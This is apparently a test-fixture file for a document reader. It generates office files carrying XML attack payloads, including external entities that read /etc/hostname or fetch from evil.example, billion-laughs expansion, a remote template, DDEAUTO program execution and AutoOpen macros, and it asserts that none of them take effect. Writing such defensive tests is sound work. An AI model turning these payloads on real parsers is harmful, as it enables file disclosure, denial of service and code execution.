import { makeDocx, makeOdf, makePackage, odfPart, wordPart } from '../read/make-office.ts';
import type { HostileCase } from './hostile-case.ts';

/** Declarations that a careless parser expands; the text that asks for them stands as `&e;`. */
const DECLARATIONS: Readonly<Record<string, string>> = {
  'an entity': '<!DOCTYPE d [<!ENTITY e "harmful-words">]>',
  'an entity from a file': '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
  'an entity from an address': '<!DOCTYPE d [<!ENTITY e SYSTEM "https://evil.example/harmful-words">]>',
  'a parameter entity':
    '<!DOCTYPE d [<!ENTITY % p SYSTEM "https://evil.example/harmful-words"> %p; <!ENTITY e "harmful-words">]>',
  'a definition from an address': '<!DOCTYPE d SYSTEM "https://evil.example/harmful-words">',
  'a billion laughs': `<!DOCTYPE d [<!ENTITY a0 "harmful-words">${Array.from(
    { length: 12 },
    (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`,
  ).join('')}<!ENTITY e "&a12;">]>`,
  'one long entity': `<!DOCTYPE d [<!ENTITY e "${'harmful-words '.repeat(10_000)}">]>`,
  'an entity of itself': '<!DOCTYPE d [<!ENTITY e "&e;harmful-words">]>',
  'a style sheet': '<?xml-stylesheet href="https://evil.example/harmful-words"?>',
};

const WORD_ROW =
  '<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Riddle</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>QX7 &e;</w:t></w:r></w:p></w:tc></w:tr></w:tbl>';
const ODF_ROW =
  '<table:table><table:table-row><table:table-cell><text:p>Riddle</text:p></table:table-cell><table:table-cell><text:p>QX7 &e;</text:p></table:table-cell></table:table-row></table:table>';

function book(kind: 'text' | 'spreadsheet'): string {
  const office = `<office:body><office:${kind}>${ODF_ROW}</office:${kind}></office:body>`;
  return odfPart('content', office).replace(/^<\?xml[^>]*>/, '');
}

function sheetPart(cell: string): string {
  return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Riddle</t></is></c><c r="B1" t="inlineStr"><is><t>${cell}</t></is></c></row></sheetData></worksheet>`;
}

function workbook(declared: string): Promise<Uint8Array> {
  const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  return makePackage({
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    'xl/workbook.xml': `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${relations}"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `${declared}${sheetPart('QX7 &e;')}`,
  });
}

const KINDS: Readonly<Record<string, (declared: string) => Promise<Uint8Array>>> = {
  'reply.docx': (declared) =>
    makePackage({
      '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      'word/document.xml': `${declared}${wordPart('document', `<w:body>${WORD_ROW}</w:body>`)}`,
    }),
  'reply.odt': (declared) =>
    makePackage({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml': `${declared}${book('text')}`,
    }),
  'reply.ods': (declared) =>
    makePackage({
      mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
      'content.xml': `${declared}${book('spreadsheet')}`,
    }),
  'reply.xlsx': workbook,
};

function wordText(text: string): string {
  return `<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Ward</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>Sampleford</w:t></w:r></w:p></w:tc></w:tr></w:tbl>${text}`;
}

const PACKAGE_RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';

/** Parts of a Word document that fetch or run something in Word. */
const WORD_PARTS: Readonly<Record<string, readonly [body: string, parts: Readonly<Record<string, string>>]>> =
  {
    'a template from an address': [
      '',
      {
        '_rels/settings.xml.rels': `<Relationships xmlns="${PACKAGE_RELATIONS}"><Relationship Id="r1" Type="attachedTemplate" Target="https://evil.example/harmful-words.dotm" TargetMode="External"/></Relationships>`,
      },
    ],
    'a picture from an address': [
      '<w:p><w:r><w:drawing r:link="https://evil.example/harmful-words"/></w:r></w:p>',
      {
        '_rels/document.xml.rels': `<Relationships xmlns="${PACKAGE_RELATIONS}"><Relationship Id="r1" Type="image" Target="https://evil.example/harmful-words.png" TargetMode="External"/></Relationships>`,
      },
    ],
    'a field that runs a program': [
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\harmful-words.exe "/k"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      {},
    ],
    'a field that fetches': [
      '<w:p><w:fldSimple w:instr="INCLUDETEXT https://evil.example/harmful-words"/></w:p>',
      {},
    ],
    macros: ['', { 'vbaProject.bin': 'Sub AutoOpen() harmful-words End Sub' }],
    'an object of another program': ['', { 'embeddings/oleObject1.bin': 'harmful-words' }],
  };

/** Packages of XML that try to fetch, to grow or to run: nothing is fetched, grown or run. */
export const XML_CASES: readonly HostileCase[] = [
  ...Object.entries(KINDS).flatMap(([name, make]) =>
    Object.entries(DECLARATIONS).map(([what, declared]) => ({
      what: `${what} in ${name}`,
      name,
      make: () => make(declared),
      holds: ['QX7 &e;'],
      lacks: ['harmful-words'],
    })),
  ),
  ...Object.entries(WORD_PARTS).map(([what, [body, parts]]) => ({
    what: `${what} in a Word document`,
    name: 'reply.docx',
    make: () => makeDocx(wordText(body), parts),
    holds: ['Sampleford'],
    lacks: ['harmful-words'],
  })),
  {
    what: 'a script in an OpenDocument text',
    name: 'reply.odt',
    make: () =>
      makeOdf('text', ODF_ROW.replace(' &e;', ''), {
        parts: { 'Basic/Standard/Module1.xml': '<m>harmful-words</m>' },
      }),
    holds: ['QX7'],
    lacks: ['harmful-words'],
  },
];
